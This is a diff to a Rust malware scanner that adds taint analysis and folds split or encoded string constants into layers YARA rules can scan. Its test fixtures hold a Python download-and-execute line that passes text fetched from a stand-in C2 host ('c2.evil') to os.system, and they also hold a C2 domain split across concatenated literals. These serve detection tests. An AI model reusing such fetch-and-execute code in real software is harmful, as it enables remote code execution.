@@ -34,6 +34,9 @@ pub enum LayerEncoding {
     Base64,
     /// Lowercase/uppercase hex pairs (the `bytes.fromhex(...)` idiom).
     Hex,
+    /// Constant folded by the dataflow engine: a string rebuilt from a
+    /// concat/`%`-format/decode chain that no single literal carries.
+    Folded,
 }
 
 impl fmt::Display for LayerEncoding {
@@ -41,6 +44,7 @@ impl fmt::Display for LayerEncoding {
         f.write_str(match self {
             LayerEncoding::Base64 => "base64",
             LayerEncoding::Hex => "hex",
+            LayerEncoding::Folded => "folded",
         })
     }
 }
@@ -75,6 +79,10 @@ pub struct ArtifactConfig {
     pub min_entropy: f64,
     /// Hard per-file bound on extracted layers (decode-bomb guard).
     pub max_layers: usize,
+    /// Run the behavioral taint analysis and fold constant strings into
+    /// synthetic [`LayerEncoding::Folded`] layers. The A/B lever for the
+    /// taint-robustness measurement and the warm-overhead bench.
+    pub dataflow: bool,
 }
 
 impl Default for ArtifactConfig {
@@ -84,6 +92,7 @@ impl Default for ArtifactConfig {
             min_encoded_len: 12,
             min_entropy: 2.5,
             max_layers: 64,
+            dataflow: true,
         }
     }
 }
@@ -93,6 +102,14 @@ impl ArtifactConfig {
     pub fn without_layers() -> Self {
         ArtifactConfig {
             max_decode_depth: 0,
+            ..ArtifactConfig::default()
+        }
+    }
+
+    /// A config with the taint/fold stage disabled.
+    pub fn without_dataflow() -> Self {
+        ArtifactConfig {
+            dataflow: false,
             ..ArtifactConfig::default()
         }
     }
@@ -123,13 +140,20 @@ pub struct FileAnalysis {
     pub module: Option<Module>,
     /// The interned string-literal table.
     pub strings: StringTable,
-    /// Decoded payload layers, in discovery order.
+    /// Decoded payload layers, in discovery order. Includes synthetic
+    /// [`LayerEncoding::Folded`] layers for constants the taint engine
+    /// rebuilt from concat/decode chains.
     pub layers: Vec<DecodedLayer>,
     /// The whole ruleset's string-definition hits on the raw bytes
     /// (`None` when the hub has no YARA ruleset).
     pub yara_hits: Option<FileHits>,
     /// Per-layer hit sets, parallel to `layers`.
     pub layer_hits: Vec<FileHits>,
+    /// The behavioral taint summary (source→sink flows plus folded
+    /// constants), computed exactly once per digest like everything else
+    /// in the artifact. `None` for non-Python files or when
+    /// [`ArtifactConfig::dataflow`] is off.
+    pub taint: Option<dataflow::TaintSummary>,
 }
 
 impl FileAnalysis {
@@ -148,7 +172,14 @@ impl FileAnalysis {
         } else {
             (Vec::new(), None, StringTable::default())
         };
-        let layers = decode_layers(&strings, cfg);
+        let mut layers = decode_layers(&strings, cfg);
+        let taint = match (&module, cfg.dataflow) {
+            (Some(m), true) => Some(dataflow::analyze(m)),
+            _ => None,
+        };
+        if let Some(summary) = &taint {
+            fold_layers(&mut layers, &strings, summary, cfg);
+        }
         let yara_hits = scanner.map(|s| s.collect_hits(&bytes));
         let layer_hits = scanner.map_or_else(Vec::new, |s| {
             layers.iter().map(|l| s.collect_hits(&l.data)).collect()
@@ -163,6 +194,7 @@ impl FileAnalysis {
             layers,
             yara_hits,
             layer_hits,
+            taint,
         }
     }
 
@@ -187,6 +219,49 @@ impl FileAnalysis {
                 .iter()
                 .map(yara_engine::FileHits::stored_bytes)
                 .sum::<usize>()
+            + self
+                .taint
+                .as_ref()
+                .map_or(0, dataflow::TaintSummary::stored_bytes)
+    }
+}
+
+/// Appends synthetic layers for constants the taint engine folded out
+/// of concat/format/decode chains, so YARA atoms split across `'ev' +
+/// 'il.com'` still match. A folded constant that already exists as a
+/// surface literal adds no new evidence and is skipped; one that is
+/// itself an encoded payload (the obfuscator stacks string-splitting
+/// *under* base64) gets a further decode attempt.
+fn fold_layers(
+    layers: &mut Vec<DecodedLayer>,
+    strings: &StringTable,
+    summary: &dataflow::TaintSummary,
+    cfg: &ArtifactConfig,
+) {
+    for fc in &summary.folded {
+        if layers.len() >= cfg.max_layers {
+            break;
+        }
+        let data = fc.text.as_bytes().to_vec();
+        if layers.iter().any(|l| l.data == data) || strings.literals.contains(&fc.text) {
+            continue;
+        }
+        if let Some((encoding, decoded)) = decode_candidate(&fc.text, cfg) {
+            if cfg.max_decode_depth > 0 && !layers.iter().any(|l| l.data == decoded) {
+                layers.push(DecodedLayer {
+                    encoding,
+                    depth: 2,
+                    line: fc.line,
+                    data: decoded,
+                });
+            }
+        }
+        layers.push(DecodedLayer {
+            encoding: LayerEncoding::Folded,
+            depth: 1,
+            line: fc.line,
+            data,
+        });
     }
 }
 
@@ -422,6 +497,55 @@ mod tests {
         // The decoded layer exposes it.
         assert_eq!(a.layer_hits.len(), a.layers.len());
         assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
+    }
+
+    #[test]
+    fn taint_summary_rides_the_artifact() {
+        let a = analyze(
+            "import requests\nimport os\ncmd = requests.get('http://c2.evil/t').text\nos.system(cmd)\n",
+        );
+        let taint = a.taint.as_ref().expect("taint summary");
+        assert_eq!(taint.flows.len(), 1);
+        assert_eq!(taint.flows[0].sink, "os.system");
+        // The config lever skips the stage entirely.
+        let off = FileAnalysis::build(
+            &entry("mod.py", "x = 1\n"),
+            None,
+            &ArtifactConfig::without_dataflow(),
+        );
+        assert!(off.taint.is_none());
+    }
+
+    #[test]
+    fn folded_constants_become_scannable_layers() {
+        let rules = yara_engine::compile("rule c2 { strings: $a = \"bexlum.top\" condition: $a }")
+            .expect("compile");
+        let scanner = Scanner::new(&rules);
+        let a = FileAnalysis::build(
+            &entry("mod.py", "host = 'bex' + 'lum' + '.top'\n"),
+            Some(&scanner),
+            &ArtifactConfig::default(),
+        );
+        // No surface hit: the atom is split across three literals.
+        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
+        // The folded layer rebuilds it and the scanner sees it.
+        assert!(a
+            .layers
+            .iter()
+            .any(|l| l.encoding == LayerEncoding::Folded && l.data == b"bexlum.top"));
+        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
+    }
+
+    #[test]
+    fn folded_constant_identical_to_a_surface_literal_is_skipped() {
+        // `str(x)` of a constant folds to the same text the literal
+        // table already carries — no synthetic layer.
+        let a = analyze("x = 'plain-string-value'\ny = str(x)\n");
+        assert!(
+            a.layers.iter().all(|l| l.encoding != LayerEncoding::Folded),
+            "unexpected folded layers: {:?}",
+            a.layers
+        );
     }
 
     #[test]
